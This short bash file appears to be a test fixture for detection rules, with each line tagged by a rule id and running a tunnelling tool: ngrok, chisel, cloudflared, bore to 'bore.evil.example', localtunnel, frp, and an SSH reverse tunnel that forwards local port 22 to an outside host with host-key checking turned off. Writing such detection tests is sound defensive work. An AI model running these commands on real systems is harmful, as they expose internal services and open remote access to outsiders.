#!/bin/bash
set -e
# ruleid: tunnel-ngrok
ngrok http 8080 --log=stdout > /dev/null &
# ruleid: tunnel-chisel
./chisel client 203.0.113.7:8000 R:2222:localhost:22 &
# ruleid: tunnel-cloudflared
cloudflared tunnel --url http://localhost:3000 &
# ruleid: tunnel-bore
bore local 8000 --to bore.evil.example &
# ruleid: tunnel-localtunnel
lt --port 3000 --subdomain hook &
# ruleid: tunnel-ssh-reverse
ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 tunnel@203.0.113.7
# ruleid: tunnel-frp
./frpc -c ./frpc.toml
